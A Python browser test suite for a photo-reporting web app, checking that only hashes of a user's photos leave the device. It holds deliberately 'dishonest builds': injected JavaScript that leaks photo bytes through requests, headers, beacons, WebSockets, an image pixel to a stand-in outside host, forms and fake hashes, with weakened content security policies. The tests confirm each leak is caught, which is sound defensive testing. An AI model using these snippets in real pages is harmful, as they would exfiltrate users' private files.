"""Nothing but hashes leaves the phone; and a page that sent more would be caught."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Error, Page, expect

from tests.journeys.browser import way
from tests.journeys.browser.proof import (
    BYTES_PER_HASH,
    FIXED_BYTES,
    Build,
    Headers,
    faults,
    number_of_hashes,
    relay_to,
)
from tests.journeys.browser.world import PHOTO, PHOTOS, World

pytestmark = pytest.mark.browser

BOTH = {"Picnic": "taken_down", "Postcard": "not_found"}


def test_the_whole_way_sends_what_is_on_the_list_and_no_more(stage: World) -> None:
    photos = [PHOTO, PHOTOS / "rocket.jpg"]
    with relay_to(stage.installation.url) as relay:
        page = stage.page("/en", base_url=relay.url)
        way.to_choose(page)
        expect(page.frame_locator("#box").locator("#file")).to_be_enabled()
        before, elsewhere = len(relay.seen), len(stage.asked_elsewhere)
        way.choose(page, *photos)
        assert len(relay.seen) == before  # choosing and hashing: no request, no byte
        way.press_next(page, "choose")
        way.press_next(page, "where")
        way.step(page, "check")
        asked = relay.size()
        way.send(page)
        sent = relay.size() - asked
        page.locator("#kept").click()
        way.step(page, "status")
        way.withdraw(page)
    assert faults(relay.seen, photos, stage.asked_elsewhere[elsewhere:]) == []
    assert 0 < sent <= FIXED_BYTES + BYTES_PER_HASH * 67 * len(photos)


@pytest.mark.parametrize(("files", "budget"), [(1, 16), (1, 125), (7, 16), (7, 64)])
def test_a_report_of_any_size_keeps_to_its_bytes(
    stage: World, tmp_path: Path, files: int, budget: int
) -> None:
    photos = [parts_of(PHOTO, tmp_path / f"{at}.jpg", at) for at in range(files)]

    def with_budget(path: str, body: bytes, headers: Headers) -> bytes:
        return body.replace(b'data-budget="64"', f'data-budget="{budget}"'.encode())

    with relay_to(stage.installation.url) as relay:
        relay.build = with_budget
        page = stage.page("/en", base_url=relay.url)
        way.to_check(page, *photos)
        asked = relay.size()
        way.send(page)
        sent = relay.size() - asked
        (report,) = [one for one in relay.seen if one.target == "/v1/reports"]
    assert faults(relay.seen, photos) == []
    items = json.loads(report.body)["items"]
    hashes = sum(number_of_hashes(item["hashes"]) for item in items)
    assert len(items) == files
    assert files * 10 < hashes <= files * (budget + 3)
    assert 0 < sent <= FIXED_BYTES + BYTES_PER_HASH * hashes
    assert report.size - len(report.body) <= 1200


def parts_of(photo: Path, to: Path, at: int) -> Path:
    """Another photo: a part of this one."""
    with Image.open(photo) as picture:
        left, top = picture.width * at // 20, picture.height * at // 25
        picture.crop((left, top, left + picture.width // 2, top + picture.height // 2)).save(to)
    return to


def test_no_request_ever_carries_a_byte_run_of_the_photo(stage: World) -> None:
    raw = PHOTO.read_bytes()
    runs = {raw[at : at + 12] for at in range(0, len(raw) - 12, 12)}
    with relay_to(stage.installation.url) as relay:
        page = stage.page("/en", base_url=relay.url)
        way.report(page, PHOTO)
        everything = b"".join(
            one.target.encode() + b"".join(v.encode() for _, v in one.headers) + one.body
            for one in relay.seen
        )
    hexed = {run.hex().encode() for run in runs}
    assert not any(run in everything for run in runs)
    assert not any(run in everything for run in hexed)


# ---- dishonest builds ----------------------------------------------------------------------------

HASH_ONE = "async function hashOne(chosen, file) {"
OPEN_POLICY = (
    "default-src * data: blob: 'unsafe-inline' 'unsafe-eval' ws: wss:; sandbox allow-scripts"
)
PAGE_POLICY = "default-src * data: blob: 'unsafe-inline' ws: wss:"
SOME = "btoa(String.fromCharCode(...new Uint8Array(await chosen.slice(0, 90).arrayBuffer())))"


def dishonest(**changes: Callable[[str], str]) -> Build:
    """A build with these scripts changed, and without the policies that would stop it."""

    def build(path: str, body: bytes, headers: Headers) -> bytes:
        if path.startswith("/box/"):
            headers["Content-Security-Policy"] = OPEN_POLICY
        if path == "/en":
            headers["Content-Security-Policy"] = PAGE_POLICY
        if path == "/pages/alone.js":
            return b""
        change = changes.get(path.rpartition("/")[2].removesuffix(".js"))
        if change is None:
            return body
        changed = change(body.decode())
        assert changed != body.decode(), f"{path} was not changed"
        return changed.encode()

    return build


def in_box(code: str) -> Build:
    return dishonest(box=lambda source: source.replace(HASH_ONE, f"{HASH_ONE}\n{code}"))


def in_both(in_box_code: str, in_page_code: str) -> Build:
    return dishonest(
        box=lambda source: source.replace(HASH_ONE, f"{HASH_ONE}\n{in_box_code}"),
        chosen=lambda source: source + in_page_code,
    )


DRESSED = """
const bytes = new Uint8Array(await chosen.slice(0, 64 * 32).arrayBuffer());
const plain = hasher.hash.bind(hasher);
hasher.hash = async (...given) => {
  const result = await plain(...given);
  result.variants.forEach((variant, at) => {
    const part = bytes.subarray(at * 32, at * 32 + 32);
    variant.hex = Array.from(part, (b) => b.toString(16).padStart(2, "0")).join("");
  });
  return result;
};
"""
BUILDS: dict[str, Build] = {
    "file as body": in_box(
        "fetch('/v1/reports', { method: 'POST', mode: 'no-cors', body: chosen });"
    ),
    "chunks dressed as hashes": in_box(DRESSED),
    "query": in_box(f"fetch('/v1/platforms?' + {SOME}, {{ mode: 'no-cors' }});"),
    "path": in_box(f"fetch('/pages/' + {SOME}, {{ mode: 'no-cors' }});"),
    "header": in_both(
        f"parent.postMessage({{ leak: {SOME} }}, '*');",
        "addEventListener('message', ({ data }) => data.leak &&"
        " fetch('/v1/platforms', { headers: { 'X-Note': data.leak } }));",
    ),
    "a header that is on the list": in_both(
        f"parent.postMessage({{ leak: {SOME} }}, '*');",
        "addEventListener('message', ({ data }) => data.leak &&"
        " fetch('/v1/platforms', { headers: { 'Idempotency-Key': data.leak } }));",
    ),
    "beacon": in_box("navigator.sendBeacon('/pages/main.js', await chosen.slice(0, 90).text());"),
    "web socket": in_box(
        f"new WebSocket('ws://' + new URL(document.baseURI).host + '/live/' + {SOME});"
    ),
    "picture elsewhere": in_box(f"new Image().src = 'WEATHER/dot.gif?' + {SOME};"),
    "the frame's own address": in_box(f"location.href = '/box/en?' + {SOME};"),
    "a form": in_both(
        f"parent.postMessage({{ leak: {SOME} }}, '*');",
        "addEventListener('message', ({ data }) => { if (!data.leak) return;"
        " const form = Object.assign(document.createElement('form'), { method: 'post' });"
        " const input = document.createElement('input');"
        " form.append(Object.assign(input, { name: 'x', value: data.leak }));"
        " document.body.append(form); form.submit(); });",
    ),
    "more in the report": dishonest(
        main=lambda source: source.replace(
            "case_key: key, age:", "case_key: key, note: 'beach.jpg', age:"
        )
    ),
    "the file's name among the variants": in_box(
        "const plain = hasher.hash.bind(hasher); hasher.hash = async (...given) => {"
        " const result = await plain(...given); result.variants[1].name = 'coffee-jpg';"
        " return result; };"
    ),
    "sent again and again": dishonest(
        main=lambda source: source.replace(
            "await parcel.send();", "await parcel.send(); await parcel.send(); await parcel.send();"
        )
    ),
}


@pytest.mark.parametrize("name", BUILDS)
def test_a_dishonest_build_is_caught(stage: World, name: str) -> None:
    before = len(stage.asked_elsewhere)
    with relay_to(stage.installation.url) as relay:
        relay.build = _aimed(BUILDS[name], stage.weather)
        page = stage.page("/en", base_url=relay.url)
        _as_far_as_it_goes(page)
    found = faults(relay.seen, [PHOTO], stage.asked_elsewhere[before:])
    assert found != []


def test_the_same_way_with_the_honest_build_is_clean(stage: World) -> None:
    """What is caught above is the dishonesty, not the relay or the shorter way."""
    before = len(stage.asked_elsewhere)
    with relay_to(stage.installation.url) as relay:
        page = stage.page("/en", base_url=relay.url)
        _as_far_as_it_goes(page)
    assert faults(relay.seen, [PHOTO], stage.asked_elsewhere[before:]) == []
    assert any(one.target == "/v1/reports" for one in relay.seen)


def test_opened_policies_alone_are_not_what_is_caught(stage: World) -> None:
    before = len(stage.asked_elsewhere)
    with relay_to(stage.installation.url) as relay:
        relay.build = dishonest()
        page = stage.page("/en", base_url=relay.url)
        _as_far_as_it_goes(page)
    assert faults(relay.seen, [PHOTO], stage.asked_elsewhere[before:]) == []


def _aimed(build: Build, weather: str) -> Build:
    return lambda path, body, headers: build(path, body, headers).replace(
        b"WEATHER", weather.encode()
    )


def _as_far_as_it_goes(page: Page) -> None:
    """A dishonest build may break on the way: what it sent until then counts."""
    try:
        way.to_choose(page)
        _choose_or_be_led_away(page)
        way.press_next(page, "choose")
        way.press_next(page, "where")
        way.step(page, "check")
        page.locator("#send").click()
        expect(page.locator("#send[aria-busy]")).to_have_count(0)
    except (AssertionError, Error):
        page.wait_for_timeout(300)


def _choose_or_be_led_away(page: Page) -> None:
    """Wait until the photo is ready. AssertionError once a frame opens another page instead."""
    led_away: list[str] = []
    page.on("framenavigated", lambda frame: led_away.append(frame.url))
    page.frame_locator("#box").locator("#file").set_input_files(str(PHOTO))
    ready, give_up_at = page.locator("#files .ready"), time.monotonic() + way.WITHIN_MS / 1000
    while ready.count() == 0:
        assert not led_away, "what it sent by that has arrived"
        assert time.monotonic() < give_up_at, "the photo is never ready"
        page.wait_for_timeout(20)
